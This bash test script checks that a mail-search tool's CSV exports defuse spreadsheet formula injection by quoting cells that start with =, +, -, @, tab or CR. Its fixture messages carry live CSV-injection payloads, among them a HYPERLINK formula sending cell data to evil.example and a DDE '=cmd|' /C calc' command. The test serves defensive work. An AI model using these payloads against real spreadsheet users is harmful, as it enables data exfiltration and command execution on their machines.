#!/usr/bin/env bash
# T481: CSV that a spreadsheet cannot turn against its reader. Leaked mail is
# hostile: in every CSV leakdex writes (--format csv, --export, --export-dir's
# manifest.csv, batch and its export, senders, recipients), a cell that starts
# with =, +, -, @, a tab or a CR gets a single quote in front (and is
# quoted), as OWASP recommends; JSON keeps the exact text; nothing is
# dropped. The messages are made here, in $WORK.
source "$(dirname "$0")/lib.sh"

H=$WORK/hostile
mkdir -p "$H"
# Each message: its id, subject, sender's name and address, and the name of
# its attachment; the subject is also the body's first line. Headers are
# RFC 2047 encoded words, so that any character can be written.
python3 - "$H" <<'PY'
import base64, os, sys
def ew(s):
    return "=?utf-8?b?" + base64.b64encode(s.encode()).decode() + "?="
cases = [
    ("eq", '=HYPERLINK("http://evil.example/?x="&A1,"Facture")', "=Alice Formule",
     "=cmd@evil.example", "=calc.pdf"),
    ("cmd", "=cmd|' /C calc'!A0", "+Bob Plus", "+33612345678@evil.example", "+plus.txt"),
    ("plus", "+SUM(1,2)", "-Carol Moins", "-carol@evil.example", "-moins.txt"),
    ("-minus", "-2+3", "@Dave Arobase", "dave@evil.example", "@arobase.txt"),
    ("at", "@SUM(A1:A2)", "\tTab Name", "tab@evil.example", "\ttab.txt"),
    ("tab", "\t=1+1", "\rCR Name", "cr@evil.example", "\rcr.txt"),
    ("cr", "\r=1+1", "Plain Name", "plain@evil.example", "plain.txt"),
]
for i, (mid, subject, name, addr, att) in enumerate(cases):
    irt = "In-Reply-To: <=eq@hostile.example>\n" if mid == "cmd" else ""
    m = (f"From: {ew(name)} <{addr}>\nTo: {ew(name)} <victim@reporter.example>\n"
         f"Subject: {ew(subject)}\nDate: Mon, 0{i + 1} Jan 2018 10:00:00 +0000\n"
         f"Message-ID: <{mid}@hostile.example>\n{irt}MIME-Version: 1.0\n"
         f"Content-Type: multipart/mixed; boundary=\"b\"\n\n"
         f"--b\nContent-Type: text/plain; charset=utf-8\n\n{subject}\nhostile sample {mid}\n"
         f"--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename=\"{ew(att)}\"\n\n"
         f"hostile attachment\n--b--\n")
    open(os.path.join(sys.argv[1], mid.lstrip("-") + ".eml"), "w", encoding="utf-8").write(m)
PY
index --quiet "$H" >/dev/null 2>&1 || bad "indexing the hostile messages"

# check CSV JSON: every cell of the CSV that starts with a dangerous
# character is "'" + the JSON's exact text, and every other cell the text
# itself; the hits are matched by message_id (itself a cell).
check() {
    python3 - "$1" "$2" <<'PY'
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
doc = json.load(open(sys.argv[2], encoding="utf-8"))
hits = {h["message_id"]: h for h in doc["hits"]}
def safe(text):
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
def att(h):
    return "; ".join("#%d %s (%s, %d bytes, sha256 %s, %s)" % (
        a["n"], a["name"], a["type"], a["size"], a["sha256"], a["status"]) for a in h["attachments"])
assert len(rows) == len(hits) == 7, (len(rows), len(hits))
seen = []
for r in rows:
    mid = r["message_id"][1:] if r["message_id"].startswith("'-") else r["message_id"]
    h = hits[mid]
    for col, text in [("subject", h["subject"]), ("from_name", h["from"]["name"]),
                      ("from_address", h["from"]["address"]), ("message_id", h["message_id"]),
                      ("in_reply_to", h["in_reply_to"]),
                      ("to", "%s <%s>" % (h["to"][0]["name"], h["to"][0]["address"])),
                      ("attachments", att(h))]:
        assert r[col] == safe(text), (col, r[col], text)
        if r[col] != text:
            seen.append(r[col][:2])
print(" ".join(sorted(set(seen))))
PY
}
search --export "$WORK/all.csv" --sort date >/dev/null
search --export "$WORK/all.json" --sort date >/dev/null
expect_eq "export: =, +, -, @ cells neutralised, every other cell as in JSON" "'+ '- '= '@" \
    "$(check "$WORK/all.csv" "$WORK/all.json")"
search --format json >"$WORK/std.json"
search --format csv >"$WORK/std.csv"
expect_eq "--format csv: the same" "'+ '- '= '@" "$(check "$WORK/std.csv" "$WORK/std.json")"

# Exactly: each dangerous subject, name, address and id, "'" + the original.
expect_eq "the cells, exactly" \
    "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Facture\")|'=Alice Formule|'=cmd@evil.example
'=cmd|' /C calc'!A0|'+Bob Plus|'+33612345678@evil.example|'=eq@hostile.example
'+SUM(1,2)|'-Carol Moins|'-carol@evil.example
'-2+3|'@Dave Arobase|dave@evil.example|'-minus@hostile.example
'@SUM(A1:A2)|Tab Name|tab@evil.example
'=1+1|CR Name|cr@evil.example
'=1+1|Plain Name|plain@evil.example" \
    "$(python3 -c '
import csv, sys
for r in csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")):
    cells = [r["subject"], r["from_name"], r["from_address"]]
    cells += [c for c in (r["in_reply_to"], r["message_id"]) if c.startswith("\x27")]
    print("|".join(cells))' "$WORK/all.csv")"
expect_eq "JSON keeps the exact text" \
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Facture\")|=Alice Formule|=cmd@evil.example
=cmd|' /C calc'!A0|+Bob Plus|+33612345678@evil.example
+SUM(1,2)|-Carol Moins|-carol@evil.example
-2+3|@Dave Arobase|dave@evil.example" \
    "$(python3 -c '
import json, sys
for h in json.load(open(sys.argv[1]))["hits"][:4]:
    print("|".join([h["subject"], h["from"]["name"], h["from"]["address"]]))' "$WORK/all.json")"
# A tab or CR cannot start a header's text (decoding trims it, a file
# name's tab becomes a space): the JSON and CSV agree on what is left.
expect_eq "leading tab and CR trimmed from headers, in JSON too" "'=1+1'|'CR Name'|' cr.txt'" \
    "$(python3 -c '
import json, sys
h = [h for h in json.load(open(sys.argv[1]))["hits"] if h["message_id"] == "tab@hostile.example"][0]
print("|".join(repr(x) for x in (h["subject"], h["from"]["name"], h["attachments"][0]["name"])))' "$WORK/all.json")"
want=",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Facture\"\")\","
expect_eq "the raw CSV: quoted, the quotes inside doubled" "$want" "$(grep -oF "$want" "$WORK/all.csv")"
expect_eq "the raw CSV: a name" ",\"'=Alice Formule\",\"'=cmd@evil.example\"," \
    "$(grep -oF ",\"'=Alice Formule\",\"'=cmd@evil.example\"," "$WORK/all.csv")"

# LibreOffice Calc told to evaluate formulas: a raw =1+1 becomes 2, and
# leakdex's cells stay the text they were.
if command -v soffice >/dev/null; then
    printf 'a,b\r\n=1+1,"=2+2"\r\n' >"$WORK/raw.csv"
    mkdir -p "$WORK/calc"
    HOME=$WORK/lo timeout 180 soffice --headless --norestore \
        --infilter="CSV:44,34,76,1,,0,false,false,false,false,false,-1,true" \
        --convert-to "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false" \
        --outdir "$WORK/calc" "$WORK/raw.csv" "$WORK/all.csv" >/dev/null 2>&1
    expect_eq "Calc evaluates a raw formula" "2,4" "$(sed -n 2p "$WORK/calc/raw.csv" | tr -d '\r')"
    python3 - "$WORK/all.csv" "$WORK/calc/all.csv" <<'PY' && ok || bad "Calc keeps every leakdex cell as text"
import csv, sys
a = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
b = list(csv.reader(open(sys.argv[2], newline="", encoding="utf-8")))
assert len(a) == len(b) == 8, (len(a), len(b))
h = a[0].index("subject")
assert [r[h] for r in b[1:4]] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Facture\")",
                                  "'=cmd|' /C calc'!A0", "'+SUM(1,2)"], [r[h] for r in b[1:4]]
for x, y in zip(a, b):
    for i, (p, q) in enumerate(zip(x, y)):
        if p[:1] == "'":
            assert p == q, (a[0][i], p, q)
PY
else
    bad "soffice (libreoffice-calc-nogui) is not installed; scripts/install-deps installs it"
fi

# manifest.csv of --export-dir.
search --export-dir "$WORK/dir" --sort date >/dev/null 2>&1
expect_eq "manifest.csv: the same cells, and a file column" "'+ '- '= '@" \
    "$(check "$WORK/dir/manifest.csv" "$WORK/all.json")"

# senders and recipients.
expect_eq "senders CSV" "address,names,messages,verified,first,last
'+33612345678@evil.example|'+Bob Plus
'-carol@evil.example|'-Carol Moins
'=cmd@evil.example|'=Alice Formule
cr@evil.example|CR Name
dave@evil.example|'@Dave Arobase
plain@evil.example|Plain Name
tab@evil.example|Tab Name" \
    "$(search --format csv --sort address senders | python3 -c '
import csv, sys
rows = list(csv.reader(sys.stdin))
print(",".join(rows[0]))
for r in rows[1:]:
    print(r[0] + "|" + r[1])')"
expect_eq "recipients CSV: the names cell" \
    "'+Bob Plus; -Carol Moins; =Alice Formule; @Dave Arobase; CR Name; Plain Name; Tab Name" \
    "$(search --format csv recipients | python3 -c 'import csv,sys; print(list(csv.DictReader(sys.stdin))[0]["names"])')"

# batch: the query column of the table and of the export; a line may start
# with a CR (only leading spaces and tabs are skipped). The table is on
# standard output, where a CR is shown as \x0d (no formula then); the export
# file keeps it, neutralised. A space before '(': a word right before a
# parenthesis is refused (Xapian would read it as plain words).
printf '\r=1+1\n=HYPERLINK ("http://evil.example")\n+hostile\n@SUM hostile\n' >"$WORK/queries.txt"
expect_eq "batch table in CSV (a carriage return shown)" "query|hits|verified
\\x0d=1+1|2|0
'=HYPERLINK (\"http://evil.example\")|1|0
'+hostile|7|0
'@SUM hostile|2|0" \
    "$(search --format csv batch "$WORK/queries.txt" | python3 -c '
import csv, sys
print("\n".join("|".join(r).replace("\r", "<CR>") for r in csv.reader(sys.stdin)))')"
search --format json batch "$WORK/queries.txt" >/dev/null 2>&1
expect_eq "batch JSON table: the exact query" '"\r=1+1"' \
    "$(search --format ndjson batch "$WORK/queries.txt" | head -n 1 | python3 -c 'import json,sys; print(json.dumps(json.loads(sys.stdin.readline())["query"]))')"
search --export "$WORK/batch.csv" batch "$WORK/queries.txt" >/dev/null
expect_eq "batch export: the query column" "'<CR>=1+1:2 '+hostile:7 '=HYPERLINK (\"http://evil.example\"):1 '@SUM hostile:2" \
    "$(python3 -c '
import csv, sys, collections
c = collections.Counter(r["query"] for r in csv.DictReader(open(sys.argv[1], newline="")))
print(" ".join("%s:%d" % (k.replace("\r", "<CR>"), n) for k, n in sorted(c.items())))' "$WORK/batch.csv")"
expect_eq "batch export: subjects too" "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Facture\")" \
    "$(python3 -c '
import csv, sys
print([r["subject"] for r in csv.DictReader(open(sys.argv[1], newline="")) if r["query"].startswith("\x27=HYP")][0])' "$WORK/batch.csv")"

finish
